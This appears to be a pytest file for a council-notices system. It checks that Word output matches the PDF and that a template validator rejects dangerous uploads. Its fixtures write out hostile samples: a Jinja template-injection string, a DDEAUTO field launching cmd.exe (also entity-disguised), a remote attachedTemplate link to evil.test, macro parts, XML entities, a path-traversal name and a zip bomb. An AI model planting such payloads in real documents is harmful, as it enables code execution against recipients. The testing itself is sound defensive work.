"""Word documents say the same as the PDF, and a template can neither harm nor leave out."""

import dataclasses
import io
import time
from collections.abc import Callable

import docx
import pytest
from docx.document import Document

from tests.support import word_files
from workflows.notices import pdf, word, word_check
from workflows.notices.content import PREVIEW, Content, Section, Table
from workflows.notices.templates import delivered
from workflows.notices.word_check import EXAMPLE, UnacceptableTemplate

HOSTILE = "{{ title }} {% for x in y %} <w:p/> & \x07 \x0b Ada"


def opened(data: bytes) -> Document:
    return docx.Document(io.BytesIO(data))


def written(content: Content) -> Document:
    return opened(word.render(content, delivered()))


def text_of(document: Document) -> list[str]:
    return [each.text for each in document.paragraphs]


def test_the_delivered_template_is_acceptable() -> None:
    word_check.check(delivered(), "notice.docx")


def test_a_word_document_has_all_that_a_notice_says_in_its_styles() -> None:
    document = written(EXAMPLE)

    styles = {each.text: each.style.name for each in document.paragraphs if each.style}
    assert styles["Example"] == "Heading 1"
    assert styles["B. Needs"] == "Heading 2"
    assert {"Example Council", "Example Person", "1 January 2026", "A paragraph."} <= set(styles)
    (table,) = document.tables
    assert [[cell.text for cell in row.cells] for row in table.rows] == [
        ["Need", "Provision"],
        ["1", "2"],
    ]
    assert document.core_properties.title == "Example"
    assert b'w:lang w:val="en-GB"' in word_files.parts()["word/styles.xml"]


def test_what_people_write_is_printed_and_never_read_as_markup() -> None:
    table = Table((HOSTILE,), ((HOSTILE,),))
    content = dataclasses.replace(
        EXAMPLE, paragraphs=(HOSTILE,), sections=(Section("B", HOSTILE, (HOSTILE,), (table,)),)
    )

    document = written(content)

    printed = HOSTILE.replace("\x07", "").replace("\x0b", "")
    assert text_of(document).count(printed) == 2
    assert document.tables[0].rows[1].cells[0].text == printed


def test_a_preview_says_so_in_both_forms() -> None:
    content = dataclasses.replace(EXAMPLE, preview=True)

    assert text_of(written(content))[0] == PREVIEW
    assert len(pdf.render(content)) > len(pdf.render(EXAMPLE))


def test_a_long_plan_is_set_in_time() -> None:
    row = ("words and words " * 40,) * 3
    table = Table(("Need", "Outcome", "Provision"), (row,) * 6)
    text = ("All that was written about it. " * 60,) * 8
    plan = dataclasses.replace(
        EXAMPLE, sections=tuple(Section(code, "Title", text, (table,)) for code in "ABCDEFGHIJ")
    )
    pdf.render(EXAMPLE)
    begin = time.perf_counter()
    printed = pdf.render(plan)
    middle = time.perf_counter()
    word.render(plan, delivered())
    end = time.perf_counter()

    assert b"<pdfuaid:part>1</pdfuaid:part>" in printed
    assert b"/Count 4" in printed or b"/Count 5" in printed or b"/Count 6" in printed
    assert middle - begin < 3
    assert end - middle < 3


DOCUMENT = word_files.BODY
TYPES = word_files.TYPES
RELATIONS = "word/_rels/document.xml.rels"
LINK = (
    '<Relationship Id="rId99" TargetMode="External" Target="https://evil.test/t.dotm" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
    "</Relationships>"
)
FIELD = '<w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'


UNLIKE: dict[str, Callable[[], bytes]] = {
    "a field that is not there": lambda: word_files.printing("{{ secret }}"),
    "an attribute that is not there": lambda: word_files.printing("{{ title.upper }}"),
    "Python from within": lambda: word_files.printing("{{ ''.__class__.__mro__ }}"),
    "a call": lambda: word_files.printing("{{ title.format(1) }}"),
    "a filter": lambda: word_files.printing("{{ title|upper }}"),
    "a statement": lambda: word_files.printing("{% set x = 1 %}"),
    "an import": lambda: word_files.printing("{% include 'x' %}"),
    "a macro of Jinja": lambda: word_files.printing("{% macro x() %}{% endmacro %}"),
    "a sum": lambda: word_files.printing("{{ 9 * 9 }}"),
    "a loop over a text": lambda: word_files.printing("{% for x in title %}{{ x }}{% endfor %}"),
    "a list printed whole": lambda: word_files.printing("{{ sections }}"),
    "an unclosed loop": lambda: word_files.printing("{% for x in address %}"),
    "a field of Word that runs": lambda: word_files.changed(DOCUMENT, "</w:p>", FIELD),
    "a link outside": lambda: word_files.changed(
        "word/_rels/document.xml.rels", "</Relationships>", LINK
    ),
    "a field of Word that is disguised": lambda: word_files.changed(
        DOCUMENT, "</w:p>", FIELD.replace("DDEAUTO", "&#68;&#68;&#69;&#65;UTO")
    ),
    "a link outside that is disguised": lambda: word_files.changed(
        RELATIONS, "</Relationships>", LINK.replace('"External"', '"&#69;xternal"')
    ),
    "a relation that no letter needs": lambda: word_files.changed(
        RELATIONS,
        "</Relationships>",
        LINK.replace(' TargetMode="External"', "").replace("attachedTemplate", "vbaProject"),
    ),
    "a template attached": lambda: word_files.changed(
        "word/settings.xml", "</w:settings>", "<w:attachedTemplate/></w:settings>"
    ),
    "macros": lambda: word_files.with_part("word/vbaProject.bin", b"x"),
    "macros by type": lambda: word_files.changed(
        TYPES,
        "vnd.openxmlformats-officedocument.wordprocessingml.document.main",
        "vnd.ms-word.document.macroEnabled.main",
    ),
    "an embedded file": lambda: word_files.with_part("word/embeddings/oleObject1.bin", b"x"),
    "an entity": lambda: word_files.changed(
        DOCUMENT, "<w:document", '<!DOCTYPE x [<!ENTITY a "b">]><w:document'
    ),
    "a path outside": lambda: word_files.with_part("../../etc/passwd", b"x"),
    "a zip bomb": lambda: word_files.with_part("word/media/a.bin", b"\0" * 30_000_000),
    "no provision": lambda: word_files.changed(DOCUMENT, "section.tables", "sections"),
    "no title": lambda: word_files.changed(DOCUMENT, "{{ title }}", "Notice"),
    "no document": lambda: word_files.packed({"a.txt": b"x"}),
    "damage": lambda: word_files.packed(word_files.parts())[:-200],
    "broken XML": lambda: word_files.changed(DOCUMENT, "</w:body>", ""),
    "too much": lambda: b"x" * 2_000_001,
}
REFUSED = {
    "a field that is not there": "no field “secret”",
    "an attribute that is not there": "no “upper” in {{ title }}",
    "Python from within": "“__class__”|not accepted",
    "a call": "“call” is not accepted",
    "a filter": "“filter” is not accepted",
    "a statement": "“assign” is not accepted",
    "an import": "“include” is not accepted",
    "a macro of Jinja": "“macro” is not accepted",
    "a sum": "“mul” is not accepted",
    "a loop over a text": "{{ title }} is no list",
    "a list printed whole": "{{ sections }} is a list",
    "an unclosed loop": "In the document",
    "a field of Word that runs": "the field “DDEAUTO”",
    "a field of Word that is disguised": "the field “DDEAUTO”",
    "a link outside that is disguised": "points outside the file",
    "a relation that no letter needs": "“vbaProject”",
    "a template attached": "attachedTemplate",
    "a link outside": "points outside the file, to “https://evil.test/t.dotm”",
    "macros": "The file holds macros \\(word/vbaProject.bin\\)",
    "macros by type": "plain Word document|macros",
    "an embedded file": "an embedded file",
    "an entity": "declares entities",
    "a path outside": "impossible names",
    "a zip bomb": "unpacks to far more",
    "no provision": "no list|does not print|is a list|no “header”",
    "no title": "does not print {{ title }}",
    "no document": "no plain Word document",
    "damage": "damaged",
    "broken XML": "damaged",
    "too much": "larger than 2 MB",
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_template_that_could_harm_or_leave_out_is_refused_by_name(name: str) -> None:
    with pytest.raises(UnacceptableTemplate, match=REFUSED[name].replace("{{", r"\{\{")) as refused:
        word_check.check(UNLIKE[name](), "notice.docx")

    assert refused.value.errors["file"] == (refused.value.message,)


@pytest.mark.parametrize("name", ["letter.docm", "letter.dotx", "letter.pdf", ""])
def test_a_template_of_another_kind_is_refused(name: str) -> None:
    with pytest.raises(UnacceptableTemplate, match="no Word document"):
        word_check.check(delivered(), name)


def test_what_the_authority_adds_is_kept() -> None:
    own = word_files.changed(DOCUMENT, "{{ authority }}", "{{ authority }}, Town Hall")

    word_check.check(own, "own.docx")

    assert "Example Council, Town Hall" in text_of(opened(word.render(EXAMPLE, own)))
